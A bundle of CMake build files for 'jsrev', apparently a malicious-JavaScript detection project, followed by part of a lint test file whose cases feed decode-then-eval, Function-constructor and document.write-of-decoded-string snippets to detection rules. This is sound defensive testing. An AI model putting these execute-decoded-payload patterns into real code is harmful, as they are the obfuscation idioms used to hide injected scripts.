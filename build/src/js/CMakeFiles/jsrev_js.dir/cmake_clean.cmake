file(REMOVE_RECURSE
  "CMakeFiles/jsrev_js.dir/ast.cpp.o"
  "CMakeFiles/jsrev_js.dir/ast.cpp.o.d"
  "CMakeFiles/jsrev_js.dir/lexer.cpp.o"
  "CMakeFiles/jsrev_js.dir/lexer.cpp.o.d"
  "CMakeFiles/jsrev_js.dir/parser.cpp.o"
  "CMakeFiles/jsrev_js.dir/parser.cpp.o.d"
  "CMakeFiles/jsrev_js.dir/printer.cpp.o"
  "CMakeFiles/jsrev_js.dir/printer.cpp.o.d"
  "CMakeFiles/jsrev_js.dir/visitor.cpp.o"
  "CMakeFiles/jsrev_js.dir/visitor.cpp.o.d"
  "libjsrev_js.a"
  "libjsrev_js.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/jsrev_js.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
