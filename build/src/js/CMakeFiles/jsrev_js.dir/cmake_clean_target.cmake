file(REMOVE_RECURSE
  "libjsrev_js.a"
)
