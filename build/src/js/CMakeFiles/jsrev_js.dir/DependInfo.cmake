
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/js/ast.cpp" "src/js/CMakeFiles/jsrev_js.dir/ast.cpp.o" "gcc" "src/js/CMakeFiles/jsrev_js.dir/ast.cpp.o.d"
  "/root/repo/src/js/lexer.cpp" "src/js/CMakeFiles/jsrev_js.dir/lexer.cpp.o" "gcc" "src/js/CMakeFiles/jsrev_js.dir/lexer.cpp.o.d"
  "/root/repo/src/js/parser.cpp" "src/js/CMakeFiles/jsrev_js.dir/parser.cpp.o" "gcc" "src/js/CMakeFiles/jsrev_js.dir/parser.cpp.o.d"
  "/root/repo/src/js/printer.cpp" "src/js/CMakeFiles/jsrev_js.dir/printer.cpp.o" "gcc" "src/js/CMakeFiles/jsrev_js.dir/printer.cpp.o.d"
  "/root/repo/src/js/visitor.cpp" "src/js/CMakeFiles/jsrev_js.dir/visitor.cpp.o" "gcc" "src/js/CMakeFiles/jsrev_js.dir/visitor.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/util/CMakeFiles/jsrev_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
