# Empty compiler generated dependencies file for jsrev_js.
# This may be replaced when dependencies are built.
