file(REMOVE_RECURSE
  "CMakeFiles/jsrev_core.dir/family_classifier.cpp.o"
  "CMakeFiles/jsrev_core.dir/family_classifier.cpp.o.d"
  "CMakeFiles/jsrev_core.dir/jsrevealer.cpp.o"
  "CMakeFiles/jsrev_core.dir/jsrevealer.cpp.o.d"
  "CMakeFiles/jsrev_core.dir/model_io.cpp.o"
  "CMakeFiles/jsrev_core.dir/model_io.cpp.o.d"
  "libjsrev_core.a"
  "libjsrev_core.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/jsrev_core.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
