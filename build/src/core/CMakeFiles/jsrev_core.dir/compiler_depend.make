# Empty compiler generated dependencies file for jsrev_core.
# This may be replaced when dependencies are built.
