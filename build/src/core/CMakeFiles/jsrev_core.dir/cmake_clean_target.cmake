file(REMOVE_RECURSE
  "libjsrev_core.a"
)
