# Empty dependencies file for jsrev_ml.
# This may be replaced when dependencies are built.
