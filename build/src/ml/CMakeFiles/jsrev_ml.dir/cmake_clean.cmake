file(REMOVE_RECURSE
  "CMakeFiles/jsrev_ml.dir/attention_model.cpp.o"
  "CMakeFiles/jsrev_ml.dir/attention_model.cpp.o.d"
  "CMakeFiles/jsrev_ml.dir/classifier.cpp.o"
  "CMakeFiles/jsrev_ml.dir/classifier.cpp.o.d"
  "CMakeFiles/jsrev_ml.dir/cluster_quality.cpp.o"
  "CMakeFiles/jsrev_ml.dir/cluster_quality.cpp.o.d"
  "CMakeFiles/jsrev_ml.dir/decision_tree.cpp.o"
  "CMakeFiles/jsrev_ml.dir/decision_tree.cpp.o.d"
  "CMakeFiles/jsrev_ml.dir/kmeans.cpp.o"
  "CMakeFiles/jsrev_ml.dir/kmeans.cpp.o.d"
  "CMakeFiles/jsrev_ml.dir/linear_models.cpp.o"
  "CMakeFiles/jsrev_ml.dir/linear_models.cpp.o.d"
  "CMakeFiles/jsrev_ml.dir/model_io.cpp.o"
  "CMakeFiles/jsrev_ml.dir/model_io.cpp.o.d"
  "CMakeFiles/jsrev_ml.dir/multiclass_forest.cpp.o"
  "CMakeFiles/jsrev_ml.dir/multiclass_forest.cpp.o.d"
  "CMakeFiles/jsrev_ml.dir/naive_bayes.cpp.o"
  "CMakeFiles/jsrev_ml.dir/naive_bayes.cpp.o.d"
  "CMakeFiles/jsrev_ml.dir/outlier.cpp.o"
  "CMakeFiles/jsrev_ml.dir/outlier.cpp.o.d"
  "libjsrev_ml.a"
  "libjsrev_ml.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/jsrev_ml.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
