file(REMOVE_RECURSE
  "libjsrev_ml.a"
)
