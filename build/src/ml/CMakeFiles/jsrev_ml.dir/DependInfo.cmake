
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/ml/attention_model.cpp" "src/ml/CMakeFiles/jsrev_ml.dir/attention_model.cpp.o" "gcc" "src/ml/CMakeFiles/jsrev_ml.dir/attention_model.cpp.o.d"
  "/root/repo/src/ml/classifier.cpp" "src/ml/CMakeFiles/jsrev_ml.dir/classifier.cpp.o" "gcc" "src/ml/CMakeFiles/jsrev_ml.dir/classifier.cpp.o.d"
  "/root/repo/src/ml/cluster_quality.cpp" "src/ml/CMakeFiles/jsrev_ml.dir/cluster_quality.cpp.o" "gcc" "src/ml/CMakeFiles/jsrev_ml.dir/cluster_quality.cpp.o.d"
  "/root/repo/src/ml/decision_tree.cpp" "src/ml/CMakeFiles/jsrev_ml.dir/decision_tree.cpp.o" "gcc" "src/ml/CMakeFiles/jsrev_ml.dir/decision_tree.cpp.o.d"
  "/root/repo/src/ml/kmeans.cpp" "src/ml/CMakeFiles/jsrev_ml.dir/kmeans.cpp.o" "gcc" "src/ml/CMakeFiles/jsrev_ml.dir/kmeans.cpp.o.d"
  "/root/repo/src/ml/linear_models.cpp" "src/ml/CMakeFiles/jsrev_ml.dir/linear_models.cpp.o" "gcc" "src/ml/CMakeFiles/jsrev_ml.dir/linear_models.cpp.o.d"
  "/root/repo/src/ml/model_io.cpp" "src/ml/CMakeFiles/jsrev_ml.dir/model_io.cpp.o" "gcc" "src/ml/CMakeFiles/jsrev_ml.dir/model_io.cpp.o.d"
  "/root/repo/src/ml/multiclass_forest.cpp" "src/ml/CMakeFiles/jsrev_ml.dir/multiclass_forest.cpp.o" "gcc" "src/ml/CMakeFiles/jsrev_ml.dir/multiclass_forest.cpp.o.d"
  "/root/repo/src/ml/naive_bayes.cpp" "src/ml/CMakeFiles/jsrev_ml.dir/naive_bayes.cpp.o" "gcc" "src/ml/CMakeFiles/jsrev_ml.dir/naive_bayes.cpp.o.d"
  "/root/repo/src/ml/outlier.cpp" "src/ml/CMakeFiles/jsrev_ml.dir/outlier.cpp.o" "gcc" "src/ml/CMakeFiles/jsrev_ml.dir/outlier.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/util/CMakeFiles/jsrev_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
