file(REMOVE_RECURSE
  "libjsrev_paths.a"
)
