file(REMOVE_RECURSE
  "CMakeFiles/jsrev_paths.dir/path_extraction.cpp.o"
  "CMakeFiles/jsrev_paths.dir/path_extraction.cpp.o.d"
  "CMakeFiles/jsrev_paths.dir/vocab.cpp.o"
  "CMakeFiles/jsrev_paths.dir/vocab.cpp.o.d"
  "libjsrev_paths.a"
  "libjsrev_paths.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/jsrev_paths.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
