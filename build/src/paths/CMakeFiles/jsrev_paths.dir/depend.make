# Empty dependencies file for jsrev_paths.
# This may be replaced when dependencies are built.
