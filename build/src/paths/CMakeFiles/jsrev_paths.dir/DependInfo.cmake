
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/paths/path_extraction.cpp" "src/paths/CMakeFiles/jsrev_paths.dir/path_extraction.cpp.o" "gcc" "src/paths/CMakeFiles/jsrev_paths.dir/path_extraction.cpp.o.d"
  "/root/repo/src/paths/vocab.cpp" "src/paths/CMakeFiles/jsrev_paths.dir/vocab.cpp.o" "gcc" "src/paths/CMakeFiles/jsrev_paths.dir/vocab.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/analysis/CMakeFiles/jsrev_analysis.dir/DependInfo.cmake"
  "/root/repo/build/src/js/CMakeFiles/jsrev_js.dir/DependInfo.cmake"
  "/root/repo/build/src/util/CMakeFiles/jsrev_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
