file(REMOVE_RECURSE
  "CMakeFiles/jsrev_baselines.dir/cujo.cpp.o"
  "CMakeFiles/jsrev_baselines.dir/cujo.cpp.o.d"
  "CMakeFiles/jsrev_baselines.dir/detector.cpp.o"
  "CMakeFiles/jsrev_baselines.dir/detector.cpp.o.d"
  "CMakeFiles/jsrev_baselines.dir/jast.cpp.o"
  "CMakeFiles/jsrev_baselines.dir/jast.cpp.o.d"
  "CMakeFiles/jsrev_baselines.dir/jstap.cpp.o"
  "CMakeFiles/jsrev_baselines.dir/jstap.cpp.o.d"
  "CMakeFiles/jsrev_baselines.dir/ngram.cpp.o"
  "CMakeFiles/jsrev_baselines.dir/ngram.cpp.o.d"
  "CMakeFiles/jsrev_baselines.dir/zozzle.cpp.o"
  "CMakeFiles/jsrev_baselines.dir/zozzle.cpp.o.d"
  "libjsrev_baselines.a"
  "libjsrev_baselines.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/jsrev_baselines.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
