file(REMOVE_RECURSE
  "libjsrev_baselines.a"
)
