# Empty compiler generated dependencies file for jsrev_baselines.
# This may be replaced when dependencies are built.
