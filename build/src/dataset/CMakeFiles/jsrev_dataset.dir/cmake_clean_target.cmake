file(REMOVE_RECURSE
  "libjsrev_dataset.a"
)
