# Empty compiler generated dependencies file for jsrev_dataset.
# This may be replaced when dependencies are built.
