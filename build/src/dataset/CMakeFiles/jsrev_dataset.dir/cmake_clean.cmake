file(REMOVE_RECURSE
  "CMakeFiles/jsrev_dataset.dir/corpus.cpp.o"
  "CMakeFiles/jsrev_dataset.dir/corpus.cpp.o.d"
  "CMakeFiles/jsrev_dataset.dir/generator.cpp.o"
  "CMakeFiles/jsrev_dataset.dir/generator.cpp.o.d"
  "libjsrev_dataset.a"
  "libjsrev_dataset.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/jsrev_dataset.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
