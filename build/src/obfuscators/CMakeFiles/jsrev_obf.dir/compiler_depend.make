# Empty compiler generated dependencies file for jsrev_obf.
# This may be replaced when dependencies are built.
