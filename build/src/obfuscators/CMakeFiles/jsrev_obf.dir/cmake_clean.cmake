file(REMOVE_RECURSE
  "CMakeFiles/jsrev_obf.dir/obfuscators.cpp.o"
  "CMakeFiles/jsrev_obf.dir/obfuscators.cpp.o.d"
  "CMakeFiles/jsrev_obf.dir/transforms.cpp.o"
  "CMakeFiles/jsrev_obf.dir/transforms.cpp.o.d"
  "libjsrev_obf.a"
  "libjsrev_obf.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/jsrev_obf.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
