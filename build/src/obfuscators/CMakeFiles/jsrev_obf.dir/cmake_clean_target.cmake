file(REMOVE_RECURSE
  "libjsrev_obf.a"
)
