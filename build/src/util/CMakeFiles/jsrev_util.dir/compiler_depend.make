# Empty compiler generated dependencies file for jsrev_util.
# This may be replaced when dependencies are built.
