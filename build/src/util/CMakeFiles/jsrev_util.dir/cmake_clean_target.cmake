file(REMOVE_RECURSE
  "libjsrev_util.a"
)
