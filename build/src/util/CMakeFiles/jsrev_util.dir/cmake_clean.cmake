file(REMOVE_RECURSE
  "CMakeFiles/jsrev_util.dir/base64.cpp.o"
  "CMakeFiles/jsrev_util.dir/base64.cpp.o.d"
  "CMakeFiles/jsrev_util.dir/string_util.cpp.o"
  "CMakeFiles/jsrev_util.dir/string_util.cpp.o.d"
  "CMakeFiles/jsrev_util.dir/table.cpp.o"
  "CMakeFiles/jsrev_util.dir/table.cpp.o.d"
  "CMakeFiles/jsrev_util.dir/thread_pool.cpp.o"
  "CMakeFiles/jsrev_util.dir/thread_pool.cpp.o.d"
  "libjsrev_util.a"
  "libjsrev_util.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/jsrev_util.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
