file(REMOVE_RECURSE
  "libjsrev_analysis.a"
)
