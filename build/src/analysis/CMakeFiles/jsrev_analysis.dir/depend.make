# Empty dependencies file for jsrev_analysis.
# This may be replaced when dependencies are built.
