
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/analysis/cfg.cpp" "src/analysis/CMakeFiles/jsrev_analysis.dir/cfg.cpp.o" "gcc" "src/analysis/CMakeFiles/jsrev_analysis.dir/cfg.cpp.o.d"
  "/root/repo/src/analysis/dataflow.cpp" "src/analysis/CMakeFiles/jsrev_analysis.dir/dataflow.cpp.o" "gcc" "src/analysis/CMakeFiles/jsrev_analysis.dir/dataflow.cpp.o.d"
  "/root/repo/src/analysis/pdg.cpp" "src/analysis/CMakeFiles/jsrev_analysis.dir/pdg.cpp.o" "gcc" "src/analysis/CMakeFiles/jsrev_analysis.dir/pdg.cpp.o.d"
  "/root/repo/src/analysis/scope.cpp" "src/analysis/CMakeFiles/jsrev_analysis.dir/scope.cpp.o" "gcc" "src/analysis/CMakeFiles/jsrev_analysis.dir/scope.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/js/CMakeFiles/jsrev_js.dir/DependInfo.cmake"
  "/root/repo/build/src/util/CMakeFiles/jsrev_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
