file(REMOVE_RECURSE
  "CMakeFiles/jsrev_analysis.dir/cfg.cpp.o"
  "CMakeFiles/jsrev_analysis.dir/cfg.cpp.o.d"
  "CMakeFiles/jsrev_analysis.dir/dataflow.cpp.o"
  "CMakeFiles/jsrev_analysis.dir/dataflow.cpp.o.d"
  "CMakeFiles/jsrev_analysis.dir/pdg.cpp.o"
  "CMakeFiles/jsrev_analysis.dir/pdg.cpp.o.d"
  "CMakeFiles/jsrev_analysis.dir/scope.cpp.o"
  "CMakeFiles/jsrev_analysis.dir/scope.cpp.o.d"
  "libjsrev_analysis.a"
  "libjsrev_analysis.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/jsrev_analysis.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
