# Empty dependencies file for bench_family.
# This may be replaced when dependencies are built.
