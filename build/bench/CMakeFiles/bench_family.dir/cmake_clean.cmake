file(REMOVE_RECURSE
  "CMakeFiles/bench_family.dir/bench_family.cpp.o"
  "CMakeFiles/bench_family.dir/bench_family.cpp.o.d"
  "bench_family"
  "bench_family.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_family.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
