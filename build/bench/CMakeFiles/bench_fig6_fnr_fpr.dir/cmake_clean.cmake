file(REMOVE_RECURSE
  "CMakeFiles/bench_fig6_fnr_fpr.dir/bench_fig6_fnr_fpr.cpp.o"
  "CMakeFiles/bench_fig6_fnr_fpr.dir/bench_fig6_fnr_fpr.cpp.o.d"
  "bench_fig6_fnr_fpr"
  "bench_fig6_fnr_fpr.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig6_fnr_fpr.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
