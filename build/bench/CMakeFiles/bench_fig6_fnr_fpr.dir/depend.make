# Empty dependencies file for bench_fig6_fnr_fpr.
# This may be replaced when dependencies are built.
