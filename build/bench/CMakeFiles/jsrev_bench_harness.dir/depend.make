# Empty dependencies file for jsrev_bench_harness.
# This may be replaced when dependencies are built.
