file(REMOVE_RECURSE
  "libjsrev_bench_harness.a"
)
