file(REMOVE_RECURSE
  "CMakeFiles/jsrev_bench_harness.dir/harness.cpp.o"
  "CMakeFiles/jsrev_bench_harness.dir/harness.cpp.o.d"
  "libjsrev_bench_harness.a"
  "libjsrev_bench_harness.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/jsrev_bench_harness.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
