file(REMOVE_RECURSE
  "CMakeFiles/bench_table4_robustness.dir/bench_table4_robustness.cpp.o"
  "CMakeFiles/bench_table4_robustness.dir/bench_table4_robustness.cpp.o.d"
  "bench_table4_robustness"
  "bench_table4_robustness.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table4_robustness.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
