# Empty compiler generated dependencies file for bench_table4_robustness.
# This may be replaced when dependencies are built.
