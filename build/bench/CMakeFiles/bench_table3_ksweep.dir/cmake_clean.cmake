file(REMOVE_RECURSE
  "CMakeFiles/bench_table3_ksweep.dir/bench_table3_ksweep.cpp.o"
  "CMakeFiles/bench_table3_ksweep.dir/bench_table3_ksweep.cpp.o.d"
  "bench_table3_ksweep"
  "bench_table3_ksweep.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table3_ksweep.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
