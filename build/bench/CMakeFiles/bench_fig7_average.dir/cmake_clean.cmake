file(REMOVE_RECURSE
  "CMakeFiles/bench_fig7_average.dir/bench_fig7_average.cpp.o"
  "CMakeFiles/bench_fig7_average.dir/bench_fig7_average.cpp.o.d"
  "bench_fig7_average"
  "bench_fig7_average.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig7_average.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
