# Empty dependencies file for bench_fig7_average.
# This may be replaced when dependencies are built.
