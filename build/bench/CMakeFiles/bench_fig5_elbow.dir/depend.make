# Empty dependencies file for bench_fig5_elbow.
# This may be replaced when dependencies are built.
