file(REMOVE_RECURSE
  "CMakeFiles/bench_fig5_elbow.dir/bench_fig5_elbow.cpp.o"
  "CMakeFiles/bench_fig5_elbow.dir/bench_fig5_elbow.cpp.o.d"
  "bench_fig5_elbow"
  "bench_fig5_elbow.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig5_elbow.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
