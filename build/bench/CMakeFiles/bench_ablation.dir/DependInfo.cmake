
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/bench/bench_ablation.cpp" "bench/CMakeFiles/bench_ablation.dir/bench_ablation.cpp.o" "gcc" "bench/CMakeFiles/bench_ablation.dir/bench_ablation.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/bench/CMakeFiles/jsrev_bench_harness.dir/DependInfo.cmake"
  "/root/repo/build/src/core/CMakeFiles/jsrev_core.dir/DependInfo.cmake"
  "/root/repo/build/src/baselines/CMakeFiles/jsrev_baselines.dir/DependInfo.cmake"
  "/root/repo/build/src/dataset/CMakeFiles/jsrev_dataset.dir/DependInfo.cmake"
  "/root/repo/build/src/obfuscators/CMakeFiles/jsrev_obf.dir/DependInfo.cmake"
  "/root/repo/build/src/paths/CMakeFiles/jsrev_paths.dir/DependInfo.cmake"
  "/root/repo/build/src/analysis/CMakeFiles/jsrev_analysis.dir/DependInfo.cmake"
  "/root/repo/build/src/js/CMakeFiles/jsrev_js.dir/DependInfo.cmake"
  "/root/repo/build/src/ml/CMakeFiles/jsrev_ml.dir/DependInfo.cmake"
  "/root/repo/build/src/util/CMakeFiles/jsrev_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
