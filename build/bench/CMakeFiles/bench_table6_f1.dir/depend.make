# Empty dependencies file for bench_table6_f1.
# This may be replaced when dependencies are built.
