file(REMOVE_RECURSE
  "CMakeFiles/bench_dataset.dir/bench_dataset.cpp.o"
  "CMakeFiles/bench_dataset.dir/bench_dataset.cpp.o.d"
  "bench_dataset"
  "bench_dataset.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_dataset.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
