file(REMOVE_RECURSE
  "CMakeFiles/frontend_property_test.dir/frontend_property_test.cpp.o"
  "CMakeFiles/frontend_property_test.dir/frontend_property_test.cpp.o.d"
  "frontend_property_test"
  "frontend_property_test.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/frontend_property_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
