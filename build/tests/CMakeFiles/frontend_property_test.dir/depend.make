# Empty dependencies file for frontend_property_test.
# This may be replaced when dependencies are built.
