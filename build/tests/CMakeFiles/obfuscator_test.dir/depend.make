# Empty dependencies file for obfuscator_test.
# This may be replaced when dependencies are built.
