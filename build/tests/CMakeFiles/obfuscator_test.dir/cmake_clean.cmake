file(REMOVE_RECURSE
  "CMakeFiles/obfuscator_test.dir/obfuscator_test.cpp.o"
  "CMakeFiles/obfuscator_test.dir/obfuscator_test.cpp.o.d"
  "obfuscator_test"
  "obfuscator_test.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/obfuscator_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
