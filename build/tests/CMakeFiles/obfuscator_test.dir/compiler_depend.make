# Empty compiler generated dependencies file for obfuscator_test.
# This may be replaced when dependencies are built.
