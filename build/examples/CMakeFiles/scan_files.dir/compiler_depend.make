# Empty compiler generated dependencies file for scan_files.
# This may be replaced when dependencies are built.
