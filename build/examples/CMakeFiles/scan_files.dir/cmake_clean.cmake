file(REMOVE_RECURSE
  "CMakeFiles/scan_files.dir/scan_files.cpp.o"
  "CMakeFiles/scan_files.dir/scan_files.cpp.o.d"
  "scan_files"
  "scan_files.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/scan_files.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
