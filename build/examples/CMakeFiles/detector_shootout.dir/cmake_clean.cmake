file(REMOVE_RECURSE
  "CMakeFiles/detector_shootout.dir/detector_shootout.cpp.o"
  "CMakeFiles/detector_shootout.dir/detector_shootout.cpp.o.d"
  "detector_shootout"
  "detector_shootout.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/detector_shootout.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
