# Empty dependencies file for obfuscation_robustness.
# This may be replaced when dependencies are built.
