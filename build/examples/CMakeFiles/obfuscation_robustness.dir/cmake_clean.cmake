file(REMOVE_RECURSE
  "CMakeFiles/obfuscation_robustness.dir/obfuscation_robustness.cpp.o"
  "CMakeFiles/obfuscation_robustness.dir/obfuscation_robustness.cpp.o.d"
  "obfuscation_robustness"
  "obfuscation_robustness.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/obfuscation_robustness.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
