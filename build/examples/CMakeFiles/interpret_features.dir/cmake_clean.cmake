file(REMOVE_RECURSE
  "CMakeFiles/interpret_features.dir/interpret_features.cpp.o"
  "CMakeFiles/interpret_features.dir/interpret_features.cpp.o.d"
  "interpret_features"
  "interpret_features.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/interpret_features.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
