# Empty compiler generated dependencies file for interpret_features.
# This may be replaced when dependencies are built.
