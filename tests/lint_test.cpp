// Tests for the semantic lint engine: per-rule firing and non-firing cases
// for every registered rule, summary-vector extraction, report rendering,
// determinism across thread widths, and a property test that linting never
// throws on any obfuscator's output.
#include <gtest/gtest.h>

#include <set>
#include <string>
#include <vector>

#include "dataset/generator.h"
#include "lint/linter.h"
#include "lint/registry.h"
#include "lint/report.h"
#include "obfuscators/obfuscator.h"
#include "util/rng.h"

namespace jsrev::lint {
namespace {

class LintRules : public ::testing::Test {
 protected:
  std::vector<Diagnostic> lint(const std::string& source) {
    const LintResult r = linter_.lint(source);
    EXPECT_FALSE(r.parse_failed) << r.parse_error;
    return r.diagnostics;
  }

  int count(const std::string& source, const std::string& rule_id) {
    int n = 0;
    for (const Diagnostic& d : lint(source)) n += d.rule_id == rule_id;
    return n;
  }

  Linter linter_;
};

// ---- registry ------------------------------------------------------------

TEST_F(LintRules, RegistryHasAtLeastTwelveUniqueRules) {
  const auto rules = make_default_rules();
  EXPECT_GE(rules.size(), 12u);
  std::set<std::string> ids;
  for (const auto& r : rules) ids.insert(std::string(r->id()));
  EXPECT_EQ(ids.size(), rules.size());
  EXPECT_EQ(rule_catalog().size(), rules.size());
}

// ---- malice rules --------------------------------------------------------

TEST_F(LintRules, M01EvalNonLiteral) {
  EXPECT_EQ(count("eval(payload);", "M01"), 1);
  EXPECT_EQ(count("var x = decode(); eval(x + suffix);", "M01"), 1);
  EXPECT_EQ(count("eval(\"use strict\");", "M01"), 0);  // literal arg exempt
  EXPECT_EQ(count("evaluate(payload);", "M01"), 0);     // not eval
}

TEST_F(LintRules, M02FunctionConstructor) {
  EXPECT_EQ(count("var f = new Function(\"a\", \"return a\");", "M02"), 1);
  EXPECT_EQ(count("var f = Function(body);", "M02"), 1);
  EXPECT_EQ(count("var f = function (a) { return a; };", "M02"), 0);
  EXPECT_EQ(count("var f = new Function();", "M02"), 0);  // no body arg
}

TEST_F(LintRules, M03DecodeThenExecute) {
  EXPECT_EQ(count("var p = atob(blob); eval(p);", "M03"), 1);
  EXPECT_EQ(
      count("var p = unescape(\"%61\"); window.setTimeout(p, 5);", "M03"), 1);
  EXPECT_EQ(count("var p = \"plain\"; eval(p);", "M03"), 0);  // not decoded
  EXPECT_EQ(count("var p = atob(blob); log(p);", "M03"), 0);  // no sink
}

TEST_F(LintRules, M03OneDiagnosticPerSink) {
  // Two decoded defs reaching one sink report once.
  EXPECT_EQ(count("var a = atob(x); a = atob(y); eval(a);", "M03"), 1);
}

TEST_F(LintRules, M04DocumentWriteDecoded) {
  EXPECT_EQ(count("document.write(unescape(\"%3c\"));", "M04"), 1);
  EXPECT_EQ(count("var h = atob(b); document.writeln(h);", "M04"), 1);
  EXPECT_EQ(count("document.write(\"<b>hi</b>\");", "M04"), 0);
}

TEST_F(LintRules, M05LongEncodedLiteral) {
  const std::string b64(64, 'A');
  EXPECT_EQ(count("var s = \"" + b64 + "\";", "M05"), 1);
  EXPECT_EQ(count("var s = \"deadbeefcafe00112233445566778899aabbccdd"
                  "eeff0011\";",
                  "M05"),
            1);
  EXPECT_EQ(count("var s = \"short\";", "M05"), 0);
  // Long but with spaces: prose, not a payload.
  EXPECT_EQ(count("var s = \"the quick brown fox jumps over the lazy dog "
                  "again and again\";",
                  "M05"),
            0);
}

TEST_F(LintRules, M06CharcodeAssembly) {
  EXPECT_EQ(count("var s = \"\"; for (var i = 0; i < a.length; i++) "
                  "{ s += String.fromCharCode(a[i]); }",
                  "M06"),
            1);
  EXPECT_EQ(count("while (i--) { c = s.charCodeAt(i); }", "M06"), 1);
  EXPECT_EQ(count("var c = String.fromCharCode(65);", "M06"), 0);  // no loop
